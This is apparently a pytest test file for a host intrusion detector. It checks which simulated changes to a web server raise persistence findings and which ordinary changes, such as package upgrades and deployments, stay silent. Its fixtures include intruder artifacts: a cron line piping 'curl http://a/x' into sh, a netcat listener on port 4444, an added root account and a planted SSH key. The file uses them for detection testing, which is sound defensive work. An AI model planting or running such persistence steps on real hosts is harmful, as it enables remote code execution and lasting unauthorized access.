"""What becomes of watched hosts, from what their programs say to the findings."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from typing import Any

import pytest

from apps.acquisition import host_answers
from apps.acquisition.collecting import Collected, Observation
from apps.contracts import Finding, Kind, Risk
from apps.detection.host_signs import SIGNS
from tests.detection.watched import last, told

ROOT, ANNA = "root:x:0:0:root:/root:/bin/bash", "anna:x:1000:1000::/home/anna:/bin/bash"
GROUPS = "sudo:x:27:\nanna:x:1000:"
SSHD = 'tcp LISTEN 0 128 0.0.0.0:22 0.0.0.0:* users:(("sshd",pid=1,fd=3))'
LS = ("/usr/bin/ls", "1", "755")
SUDO = ("/usr/bin/sudo", "1", "4755")
OWNERS = {"/usr/bin/ls": "coreutils", "/usr/bin/sudo": "sudo", "/etc/sudoers": "sudo"}
HOME: Mapping[str, Any] = {
    "files": [LS, SUDO, ("/etc/sudoers", "1", "440"), ("/var/www/html/index.php", "1", "644")],
    "packages": {"coreutils": "9.1", "sudo": "1.9"},
    "accounts": [ROOT, ANNA],
    "groups": GROUPS,
    "sockets": [SSHD],
    "schedules": ["/etc/crontab\ufffd17 * * * * root run-parts /etc/cron.hourly"],
    "units": ["ssh.service enabled enabled"],
    "keys": [],
    "processes": ["/proc/1/exe\t/usr/lib/systemd/systemd"],
    "modules": ["loop 32768 0 - Live 0x0"],
}


def files(listed: Sequence[tuple[str, str, str]]) -> list[Observation]:
    """(path, what it holds, mode) of each, as `find` and `sha256sum` tell them."""
    lines = [f"f\t{len(held)}\t{mode}\troot\troot\t0\t\t{path}" for path, held, mode in listed]
    digests = [f"{held.encode().hex():0>64}  {path}" for path, held, _mode in listed]
    return list(host_answers.files("\n".join(lines), "\n".join(digests), "files", OWNERS))


def run(**other: Any) -> Collected:
    """A run that saw the host as it is, but for what is `other`."""
    said = {**HOME, **other}
    lines = {
        name: "\n".join(said[name]) for name in said if name not in ("files", "packages", "groups")
    }
    installed = "".join(f"{name}\t{v}\tamd64\tii\n" for name, v in said["packages"].items())
    seen = [
        *files(said["files"]),
        *host_answers.packages(installed),
        *host_answers.accounts(lines["accounts"], said["groups"]),
        *host_answers.sockets(lines["sockets"]),
        *host_answers.schedules(lines["schedules"]),
        *host_answers.units(lines["units"]),
        *host_answers.keys(lines["keys"]),
        *host_answers.processes(lines["processes"]),
        *host_answers.modules(lines["modules"]),
    ]
    names = set(said) - {"groups"}
    return Collected(seen, frozenset(names))


def more(name: str, *added: Any) -> dict[str, Any]:
    return {name: [*HOME[name], *added]}


def seen(**other: Any) -> tuple[Finding, ...]:
    return last(run(), run(), run(**other), host="web-01")


KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ8mXyH5WfHVBQmJ1mVbX2JmS0hVd2Zr eve"
EVIDENCE: Mapping[str, dict[str, Any]] = {
    "account_root": more("accounts", "eve:x:0:0::/root:/bin/bash"),
    "preload": more("files", ("/etc/ld.so.preload", "x", "644")),
    "setuid": more("files", ("/tmp/.x", "1", "4755")),
    "cron_dropper": more("schedules", "/etc/cron.d/x\ufffd* * * * * root curl http://a/x | sh"),
    "binary_changed": {"files": [("/usr/bin/ls", "evil", "755"), *HOME["files"][1:]]},
    "odd_process": more("processes", "/proc/9/exe\t/dev/shm/.x"),
    "ssh_key": more("keys", f"/root/.ssh/authorized_keys\ufffd{KEY}"),
    "kernel_module": more("modules", "evil 16384 0 - Live 0x0 (OE)"),
    "web_script": more("files", ("/var/www/html/uploads/a.php", "x", "644")),
    "account_rights": {"groups": "sudo:x:27:anna\n"},
    "sudo_rules": more("files", ("/etc/sudoers.d/x", "x", "440")),
    "login_rules": more("files", ("/etc/pam.d/sshd", "x", "644")),
    "program_added": more("files", ("/usr/bin/dbus-helper", "x", "755")),
    "cron_job": more("schedules", "/var/spool/cron/crontabs/anna\ufffd@daily backup"),
    "unit": more("units", "evil.service enabled enabled"),
    "shell_profile": more("files", ("/etc/profile.d/x.sh", "x", "644")),
    "hosts_file": more("files", ("/etc/hosts", "x", "644")),
    "listener": more("sockets", 'tcp LISTEN 0 1 0.0.0.0:4444 0.0.0.0:* users:(("nc",pid=9,fd=3))'),
    "account_added": more("accounts", "eve:x:1001:1001::/home/eve:/bin/bash"),
    "web_entrance": {"files": [*HOME["files"][:3], ("/var/www/html/index.php", "evil", "644")]},
    "local_program": more("files", ("/usr/local/bin/tool", "x", "755")),
}


def test_there_is_evidence_for_every_sign() -> None:
    assert list(EVIDENCE) == [sign.name for sign in SIGNS]
    severities = [sign.severity for sign in SIGNS]
    assert severities == sorted(severities, reverse=True)


@pytest.mark.parametrize("sign", SIGNS, ids=lambda sign: sign.name)
def test_what_an_intruder_leaves_is_told_once(sign: Any) -> None:
    left = run(**EVIDENCE[sign.name])
    days = told([run(), left, left], host="web-01")
    assert [len(day) for day in days] == [0, 1, 0]
    (one,) = days[1]
    assert (one.kind, one.host, one.target) == (Kind.PERSISTENCE, "web-01", "web-01")
    assert (one.parameters["signs"], one.severity) == ([sign.name], sign.severity)
    assert (one.risk, one.techniques) == (sign.risk, (sign.technique,))
    assert "on web-01: " in one.title


def test_an_upgrade_of_packages_changes_their_programs_in_silence() -> None:
    upgraded = {
        "packages": {"coreutils": "9.2", "sudo": "1.10", "nginx": "1.22"},
        "files": [
            ("/usr/bin/ls", "2", "755"), ("/usr/bin/sudo", "2", "4755"),
            ("/etc/sudoers", "2", "440"), ("/usr/sbin/nginx", "1", "755"),
            ("/etc/pam.d/common-auth", "2", "644"), ("/var/www/html/index.php", "1", "644"),
        ],
        "accounts": [ROOT, ANNA, "postgres:x:105:110::/var/lib/postgresql:/bin/bash"],
        "schedules": [*HOME["schedules"], "/etc/cron.d/sysstat\ufffd5-55/10 * * * * root sa1"],
        "units": [*HOME["units"], "nginx.service enabled enabled"],
        "sockets": [SSHD, 'tcp LISTEN 0 511 0.0.0.0:80 0.0.0.0:* users:(("nginx",pid=9,fd=3))'],
        "processes": [*HOME["processes"], "/proc/7/exe\t/usr/bin/sudo (deleted)"],
        "modules": [*HOME["modules"], "nvidia 16384 0 - Live 0x0 (POE)"],
    }  # fmt: skip
    assert not seen(**upgraded)


def test_a_program_that_changes_during_an_upgrade_of_others_is_told() -> None:
    evil = {"packages": {"coreutils": "9.1", "sudo": "1.10"}, **EVIDENCE["binary_changed"]}
    (one,) = seen(**evil)
    assert one.title == "Program changed without its package on web-01: /usr/bin/ls"
    assert (one.subject, one.risk) == ("/usr/bin/ls", Risk.TROJAN)
    assert len(one.parameters["sha256"]) == 64


def test_a_deployment_and_ordinary_days_of_a_host_are_silent() -> None:
    rolled_out = [(f"/var/www/html/app{n}/index.php", "1", "644") for n in range(12)]
    first = run(**more("files", *rolled_out))
    second = run(files=[*HOME["files"], *((path, "2", "644") for path, _held, _mode in rolled_out)])
    assert not last(first, second, host="web-01")
    ordinary = {
        "accounts": [ROOT, ANNA, "svc:x:998:998::/:/usr/sbin/nologin"],
        "sockets": [
            SSHD.replace('"sshd",pid=1', '"sshd-session",pid=2'),
            'tcp LISTEN 0 5 127.0.0.1:6379 0.0.0.0:* users:(("redis",pid=9,fd=3))',
            'udp UNCONN 0 0 0.0.0.0:47000 0.0.0.0:* users:(("chronyd",pid=9,fd=3))',
        ],
        "units": ["ssh.service enabled enabled", "tmp.mount.timer static -"],
        "modules": [*HOME["modules"], "usb_storage 16384 0 - Live 0x0"],
        "files": [
            *HOME["files"],
            ("/etc/motd", "x", "644"),
            ("/var/www/html/uploads/a.jpg", "x", "644"),
        ],
    }
    assert not seen(**ordinary)
    assert not seen(files=HOME["files"][1:], accounts=[ROOT])  # what is gone


def test_many_programs_changed_at_once_are_a_virus() -> None:
    programs = [(f"/usr/bin/p{n}", "1", "755") for n in range(6)]
    infected = [(path, "evil", mode) for path, _held, mode in programs]
    (one,) = last(run(files=programs), run(files=infected), host="web-01")
    assert (one.risk, one.subject) == (Risk.VIRUS, "")
    assert one.title.startswith("6 programs changed without their packages on web-01: /usr/bin/p0")


def test_a_process_from_a_temporary_folder_is_told_the_first_time_too() -> None:
    (one,) = told([run(**EVIDENCE["odd_process"])], host="web-01")[0]
    assert one.title == "Program that runs from where none should on web-01: /dev/shm/.x"


def test_a_file_in_two_watched_places_is_named_once() -> None:
    left = run(**EVIDENCE["setuid"])
    twice = [*left.observations, *(
        Observation(o.dataset, o.key, o.fields, o.compared, group="setuid")
        for o in left.observations if o.key == "/tmp/.x"
    )]  # fmt: skip
    empty = Collected(run().observations, run().groups | {"setuid"})
    (one,) = last(empty, Collected(twice, left.groups | {"setuid"}), host="web-01")
    assert one.title == "New file that runs as its owner on web-01: /tmp/.x"
    assert len(one.records) == 2


def test_a_process_that_ended_and_a_file_that_ran_as_its_owner_before_are_silent() -> None:
    days = told([run(**EVIDENCE["odd_process"]), run()], host="web-01")
    assert [len(day) for day in days] == [1, 0]
    looser = [LS, ("/usr/bin/sudo", "1", "4711"), *HOME["files"][2:]]
    assert not seen(files=looser)
